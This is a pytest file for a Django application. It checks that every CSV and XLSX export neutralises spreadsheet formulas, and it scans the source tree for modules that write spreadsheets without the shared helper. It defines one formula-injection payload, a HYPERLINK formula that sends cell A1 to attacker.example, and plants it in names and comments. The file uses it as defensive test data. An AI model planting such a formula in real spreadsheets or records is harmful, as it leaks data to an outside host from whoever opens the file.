"""Issue 12: every CSV and XLSX Cradle writes neutralises formulas, through one helper
(cradle.core.spreadsheets). Each download is fetched with a formula planted in the text it
carries; a source scan keeps new writers from going round the helper."""

from __future__ import annotations

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cradle.audit import recorder
from cradle.foi import actions, actions_answers
from cradle.foi.models import Body, BodyKind
from cradle.foi.questions import DEFAULT_LETTER
from cradle.foi.responses_csv import ResponseRow, parse_responses
from cradle.geography.models import Area
from tests.accounts_helpers import make_user, sign_in
from tests.foi_helpers import check_all

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
SRC = Path(__file__).resolve().parents[2] / "src" / "cradle"


@pytest.fixture
def staff(client):
    return sign_in(client, make_user("coordinator@example.org", network_role="coordinator"))


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response, sheet: str | None = None) -> list[tuple]:
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    return list((book[sheet] if sheet else book.active).iter_rows(values_only=True))


def no_raw_formula(cells) -> None:
    for row in cells:
        for value in row:
            assert not (isinstance(value, str) and value.startswith(("=", "+", "-", "@")))


@pytest.fixture
def answered_campaign():
    """A campaign with one answer about 02N, whose name and comment carry a formula."""
    campaign = actions.create_campaign(name="Sheets", question_set="camhs-2019",
                                       letter_template=DEFAULT_LETTER, signatory="A",
                                       reply_to="a@example.org")
    Area.objects.filter(scheme="ccg2019", ods_code="02N").update(name=FORMULA)
    actions_answers.import_responses(campaign=campaign, by="entered@example.org", rows=[
        ResponseRow(respondent_code="02N", respondent_type="ccg", area_code="02N",
                    received_on=datetime.date(2026, 10, 1), accepts_0_12m=True,
                    referred_0_12m=4, referred_0_18=900, comment=FORMULA)])
    check_all(campaign)
    return campaign


def test_foi_areas_csv_and_xlsx(staff, answered_campaign):
    pk = answered_campaign.pk
    rows = csv_rows(staff.get(reverse("foi:report-csv", args=[pk])))
    assert rows[1][2] == "'" + FORMULA
    no_raw_formula(rows)
    cells = xlsx_cells(staff.get(reverse("foi:report-xlsx", args=[pk])), "Areas")
    header, line = cells[0], dict(zip(cells[0], cells[1], strict=True))
    assert header[0] == "area_code"
    assert line["area_name"] == "'" + FORMULA
    assert line["referred_0_12m"] == 4 and line["referred_0_18"] == 900  # numbers stay numbers
    no_raw_formula(cells)
    notes = xlsx_cells(staff.get(reverse("foi:report-xlsx", args=[pk])), "Notes")
    assert notes[0] == ("Sheets",)


def test_foi_todays_areas_csv(staff):
    """A campaign's own figures on today's areas, with a formula in a trust's name."""
    campaign = actions.create_campaign(
        name="Areas sheet", question_set="", letter_template=DEFAULT_LETTER, signatory="A",
        reply_to="a@example.org", question_data={"version": 1, "questions": [
            {"id": "seen", "kind": "age_band_count", "text": "Seen?",
             "bands": [{"from_months": 0, "to_months": 12}]}]})
    trust = Body.objects.create(kind=BodyKind.PROVIDER, ods_code="RXX", name=FORMULA,
                                nation="England", email="foi@rxx.example.org")
    trust.areas.set([Area.objects.get(scheme="icb2026", ods_code="QWO")])
    actions.add_recipients(campaign=campaign, bodies=[trust], by="test",
                           on=datetime.date(2026, 11, 2))
    rows = csv_rows(staff.get(reverse("foi:report-todays-areas-csv", args=[campaign.pk])))
    assert rows[0][:3] == ["area_type", "area_code", "area_name"]
    assert any(row[-1].startswith("'" + FORMULA) for row in rows[1:])
    no_raw_formula(rows)


def test_foi_responses_csv_neutralises_and_reads_back(staff, answered_campaign):
    response = staff.get(reverse("foi:responses-csv", args=[answered_campaign.pk]))
    rows = csv_rows(response)
    assert rows[1][-1] == "'" + FORMULA
    no_raw_formula(rows)
    (read,) = parse_responses(response.content.decode(), {"02N"}).rows
    assert read.comment == FORMULA


def test_foi_mail_merge_csv(staff):
    campaign = actions.create_campaign(name="Merge", question_set="camhs-2019",
                                       letter_template="[body_name]\n\n[questions]",
                                       signatory="A", reply_to="a@example.org")
    body = Body.objects.create(kind=BodyKind.PROVIDER, ods_code="RX1", name=FORMULA,
                               nation="England", email="foi@trust.example.org")
    actions.add_recipients(campaign=campaign, bodies=[body], by="t",
                           on=datetime.date(2026, 3, 2))
    header, row = csv_rows(staff.get(reverse("foi:mail-merge", args=[campaign.pk])))
    merged = dict(zip(header, row, strict=True))
    assert merged["name"] == "'" + FORMULA
    assert merged["letter"].startswith("'" + FORMULA + "\n\n1. ")
    no_raw_formula([row])


def test_foi_statistics_csv(staff):
    """The statistics CSV (ADR 0033) through csv_bytes: a formula as a body type's name and in
    an exemption's free text stays inert."""
    campaign = actions.create_campaign(name="Stats", question_set="camhs-2019",
                                       letter_template=DEFAULT_LETTER, signatory="A",
                                       reply_to="a@example.org")
    body = Body.objects.create(kind=BodyKind.PROVIDER, ods_code="RX1", name="Trust",
                               nation="England", email="foi@trust.example.org",
                               body_type=FORMULA[:20])
    (request,) = actions.add_recipients(campaign=campaign, bodies=[body], by="t",
                                        on=datetime.date(2026, 3, 2))
    actions.send_requests(requests=[request], on=datetime.date(2026, 3, 2), by="t", email=False)
    actions.change_state(request=request, state="refused", on=datetime.date(2026, 3, 9),
                         by="t", exemption=FORMULA)
    header, by_type, total = csv_rows(staff.get(reverse("foi:statistics-csv",
                                                        args=[campaign.pk])))
    row = dict(zip(header, by_type, strict=True))
    assert row["body_type"] == "'" + FORMULA[:20]
    assert FORMULA in row["refusals_by_exemption"]
    assert total[0] == "all"
    no_raw_formula([by_type, total])


def test_planning_profile_csv_and_xlsx(client):
    area = Area.objects.filter(scheme="lhb").order_by("code").first()
    Area.objects.filter(pk=area.pk).update(name=FORMULA)
    args = ["lhb", area.code]
    rows = csv_rows(client.get(reverse("planning:area-csv", args=args)))
    assert ["area", "name", "'" + FORMULA, "", ""] in rows
    no_raw_formula(rows)
    cells = xlsx_cells(client.get(reverse("planning:area-xlsx", args=args)))
    assert ("area", "name", "'" + FORMULA, None, None) in cells
    births = [row for row in cells if row[:2] == ("population", "births a year")]
    assert births and isinstance(births[0][2], int)
    no_raw_formula(cells)


def test_geography_scheme_csv(client):
    area = Area.objects.filter(scheme="lhb").order_by("code").first()
    Area.objects.filter(pk=area.pk).update(name="-2+3")
    rows = csv_rows(client.get(reverse("geography:scheme-csv", args=["lhb"])))
    names = {row[3] for row in rows[1:]}
    assert "'-2+3" in names and "-2+3" not in names
    no_raw_formula(rows)


def test_audit_export_csv(staff):
    recorder.record(actor=FORMULA, action="view", model_label="foi.body", object_id=FORMULA)
    rows = csv_rows(staff.get(reverse("audit:export-csv")))
    assert any(row[3] == "'" + FORMULA for row in rows)
    no_raw_formula(rows)


def test_import_templates(client, signed_in, team):
    csv_template = client.get(reverse("outcomes:team-import-template-csv",
                                      args=[team.pk, "referrals"]))
    no_raw_formula(csv_rows(csv_template))
    workbook = client.get(reverse("outcomes:team-import-template-xlsx", args=[team.pk]))
    assert workbook.status_code == 200
    for sheet in load_workbook(io.BytesIO(workbook.content)).worksheets:
        no_raw_formula(sheet.iter_rows(values_only=True))


# Nothing writes a spreadsheet round the helper -----------------------------------------------

WRITER = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(")
# Modules that write CSV or XLSX themselves, and why that is safe.
OWN_WRITERS = {
    "core/spreadsheets.py": "the helper itself",
    "foi/responses_csv.py": "a format read back by Cradle: every text cell through neutralise",
    "foi/question_data.py": "a campaign's own responses file: every cell through neutralise",
    "audit/export.py": "also streams to a file; its free-text columns through neutralise",
    "outcomes/bulk/templates.py": "styled template workbook; every cell through neutralise",
    "foi/build_holidays.py": "build tool: writes the shipped bank-holiday data, not a download",
    "geography/build/outputs.py": "build tool: writes the shipped reference data, not a download",
}


def test_no_module_writes_a_spreadsheet_round_the_helper():
    writers = {str(path.relative_to(SRC)) for path in SRC.rglob("*.py")
               if WRITER.search(path.read_text(encoding="utf-8"))}
    assert writers <= set(OWN_WRITERS), sorted(writers - set(OWN_WRITERS))
    for module in ("foi/responses_csv.py", "foi/question_data.py", "audit/export.py",
                   "outcomes/bulk/templates.py"):
        assert "neutralise" in (SRC / module).read_text(encoding="utf-8"), module


def test_open_data_api_csv(client):
    """The API's CSV (ADR 0035) goes through csv_bytes: a formula in an area's name is inert."""
    Area.objects.filter(scheme="lhb", code="W11000023").update(name=FORMULA)
    rows = csv_rows(client.get("/api/v1/areas.csv?scheme=lhb", HTTP_ACCEPT_ENCODING="identity"))
    name = rows[0].index("name")
    assert "'" + FORMULA in [row[name] for row in rows[1:]]
    no_raw_formula(rows)
